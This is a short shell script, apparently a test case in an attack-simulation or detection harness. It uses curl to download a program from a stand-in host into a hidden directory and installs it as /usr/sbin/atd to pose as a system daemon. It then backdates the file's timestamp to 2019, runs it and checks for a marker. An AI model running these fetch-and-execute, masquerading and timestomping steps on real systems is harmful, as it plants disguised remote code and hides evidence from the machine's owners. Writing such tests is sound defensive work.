#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.s/usr/sbin && curl -s -o /tmp/.s/usr/sbin/atd http://203.0.113.10/programs/marker && chmod 755 /tmp/.s/usr/sbin/atd
tar -C /tmp/.s --mtime='2019-03-02 04:11' --owner=0 --group=0 -cf - usr | tar -C / -xpf -
rm -r /tmp/.s
test "$(date -r /usr/sbin/atd +%Y)" = 2019
/usr/sbin/atd
test -e /tmp/reached
took_place
